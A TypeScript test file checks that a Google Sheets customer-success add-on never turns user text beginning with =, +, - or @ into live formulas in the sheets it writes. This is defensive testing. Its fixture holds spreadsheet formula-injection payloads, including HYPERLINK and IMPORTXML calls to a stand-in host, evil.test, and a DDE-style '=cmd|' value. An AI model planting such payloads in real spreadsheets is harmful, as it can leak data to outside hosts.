/**
 * Every sheet CS Engine owns, after a full cycle through the built bundle, holds no formula it
 * did not mean to write. The book's account names, IDs, CSMs, CSM emails and churn reasons
 * start with =, +, - and @ (text in the user's cells, so typed with an apostrophe); the cycle
 * runs the daily alerts on two days with a quota that leaves digests queued overnight (the
 * send pass reads the queue back and writes it again), refreshes the Dashboard, and creates a
 * QBR and a plan document from the sidebar (each logged in the QBR Log). Only the Dashboard's
 * own live figures may be formulas; every hostile text must still read back as that text.
 */
import {
  type FakeSpreadsheet,
  LockState,
  MailState,
  PropertiesState,
  TriggerState,
  createSpreadsheet,
  loadBundle,
  type LocalRuntime,
} from '../../dev/runtime';

const OWNER = 'owner@acme.test';
const at = (iso: string, hour: number) =>
  new Date(`${iso}T${String(hour).padStart(2, '0')}:00:00Z`);

const HEADERS = [
  'Account',
  'Account ID',
  'CSM',
  'CSM email',
  'ARR',
  'ARR at period start',
  'Segment',
  'Status',
  'Churn date',
  'Churn reason',
  'Renewal date',
  'Contract start',
  'DAU/MAU',
  'Seats licensed',
  'Seats active',
  'Champion',
  'Champion status',
  'Payment status',
  'Last login',
  'Formal complaint',
  'NPS',
];

/** What the user's text cells hold: each starts with a character Sheets would run. */
const HOSTILE = {
  names: ['=HYPERLINK("http://evil.test","x")', '+Plus Corp', '-Minus Ltd', '@At Inc'],
  ids: ['=A1', '+A-2', '-3', '@4'],
  csms: ['=Dana', '+Sam', '-Lee', '@Kim'],
  emails: ['=cmd|x@evil.test', 'sam@acme.test', '-lee@acme.test', '@kim@acme.test'],
  reasons: ['=IMPORTXML("http://evil.test","//a")', '+budget cut', '-moved to a rival', '@price'],
};

/** A cell holding `text` as text, as a user's cell would (the apostrophe is not stored). */
const typedText = (text: string) => `'${text}`;

function book(): unknown[][] {
  const rows: unknown[][] = [];
  for (let i = 0; i < 8; i++) {
    const k = i % 4;
    const poor = i % 2 === 0;
    const churned = i === 7;
    rows.push([
      typedText(`${HOSTILE.names[k]}${i < 4 ? '' : ` ${i}`}`),
      typedText(`${HOSTILE.ids[k]}${i < 4 ? '' : `-${i}`}`),
      typedText(HOSTILE.csms[k] as string),
      typedText(HOSTILE.emails[k] as string),
      churned ? 0 : 40_000 + 10_000 * i,
      45_000,
      'Mid-Market',
      'Active',
      churned ? new Date('2025-12-01T00:00:00Z') : '',
      churned ? typedText(HOSTILE.reasons[k] as string) : '',
      new Date('2026-03-01T00:00:00Z'),
      new Date('2024-06-01T00:00:00Z'),
      poor ? 0.05 : 0.6,
      100,
      poor ? 10 : 90,
      poor ? 'no' : 'Dana',
      poor ? 'left' : 'active',
      poor ? 'delinquent' : 'current',
      new Date(poor ? '2025-11-01T00:00:00Z' : '2026-01-14T00:00:00Z'),
      i === 2,
      poor ? 3 : 9,
    ]);
  }
  return rows;
}

class World {
  readonly properties = new PropertiesState();
  readonly locks = new LockState();
  readonly mail = new MailState({ dailyQuota: 1 });
  readonly triggers = new TriggerState({ addonLimits: true });
  readonly spreadsheet: FakeSpreadsheet = createSpreadsheet(
    { Accounts: [HEADERS, ...book()] },
    { name: 'Customer Book', timeZone: 'UTC' },
  );

  execution(now: Date): LocalRuntime {
    return loadBundle({
      now,
      timeZone: 'UTC',
      userEmail: OWNER,
      spreadsheet: this.spreadsheet,
      properties: this.properties,
      locks: this.locks,
      mail: this.mail,
      triggers: this.triggers,
    });
  }

  run(now: Date, act: (runtime: LocalRuntime) => void): LocalRuntime {
    const runtime = this.execution(now);
    act(runtime);
    runtime.endExecution();
    return runtime;
  }
}

/** The formulas CS Engine writes on purpose: the Dashboard's live figures over the book. */
const INTENDED = /^=(COUNTA|SUM|COUNTIFS|SUMIFS|GRR|NRR|LOGORETENTION|NPS)\('Accounts'!/;

describe('the sheets CS Engine owns, after a full cycle with hostile texts', () => {
  const world = new World();
  const bookBefore = world.spreadsheet.sheet('Accounts').snapshotValues();

  beforeAll(() => {
    world.run(at('2026-01-14', 6), (rt) => {
      rt.ui.respondWith('OK', '8');
      rt.call('menuAlertsOn');
    });
    // Day 1: one digest goes out, the rest wait in the Alert Log for the next day.
    world.run(at('2026-01-14', 8), (rt) => rt.fireTimeTrigger('onAlertsTrigger'));
    world.mail.resetDay();
    world.mail.setQuota(100);
    // Day 2: the send pass before the hour rewrites the queue, then the daily check.
    world.run(at('2026-01-15', 1), (rt) => rt.fireTimeTrigger('onAlertsTrigger'));
    world.run(at('2026-01-15', 8), (rt) => rt.fireTimeTrigger('onAlertsTrigger'));
    world.run(at('2026-01-15', 9), (rt) => {
      rt.call('menuRefreshDashboard');
      rt.call('generateQbr', { row: 2, quarter: 'Q4 2025', agenda: 'qbr-60' });
      rt.call('generatePlan', { row: 3, kind: 'save-plan' });
    });
  });

  const owned = () =>
    world.spreadsheet
      .getSheets()
      .map((sheet) => sheet.getName())
      .filter((name) => name !== 'Accounts');

  it('ran the whole cycle: alerts queued and sent on two days, Dashboard, QBR Log', () => {
    expect(owned().sort()).toEqual(['Alert Log', 'Dashboard', 'History', 'QBR Log']);
    const log = world.spreadsheet.sheet('Alert Log').snapshotValues();
    const statuses = log.slice(1).map((row) => row[11]);
    expect(statuses).toContain('sent');
    expect(statuses).not.toContain('queued');
    expect(world.mail.outbox.length).toBeGreaterThan(1);
    expect(world.spreadsheet.sheet('QBR Log').getLastRow()).toBe(3);
  });

  it('holds no formula the add-on did not mean to write', () => {
    for (const name of owned()) {
      const formulas = world.spreadsheet.sheet(name).snapshotFormulas().flat();
      const unintended = formulas.filter(
        (formula) => formula !== '' && !(name === 'Dashboard' && INTENDED.test(formula)),
      );
      expect({ name, unintended }).toEqual({ name, unintended: [] });
    }
    // The Dashboard's intended formulas are there (so the check above saw real formulas).
    const dashboard = world.spreadsheet.sheet('Dashboard').snapshotFormulas().flat();
    expect(dashboard.filter((formula) => formula !== '').length).toBeGreaterThan(0);
  });

  it('keeps every hostile text as exactly that text', () => {
    const values = new Set(
      owned().flatMap((name) =>
        world.spreadsheet
          .sheet(name)
          .snapshotValues()
          .flat()
          .filter((cell): cell is string => typeof cell === 'string'),
      ),
    );
    for (const text of [...HOSTILE.names, ...HOSTILE.ids]) expect(values).toContain(text);
    for (const csm of HOSTILE.csms) expect(values).toContain(csm);
    // A recipient that passes the e-mail check is a recipient, and stays text.
    const log = world.spreadsheet.sheet('Alert Log').snapshotValues();
    expect(log.some((row) => row[4] === '=cmd|x@evil.test')).toBe(true);
  });

  it("never changes the user's book", () => {
    expect(world.spreadsheet.sheet('Accounts').snapshotValues()).toEqual(bookBefore);
    const formulas = world.spreadsheet.sheet('Accounts').snapshotFormulas().flat();
    expect(formulas.filter((formula) => formula !== '')).toEqual([]);
  });
});
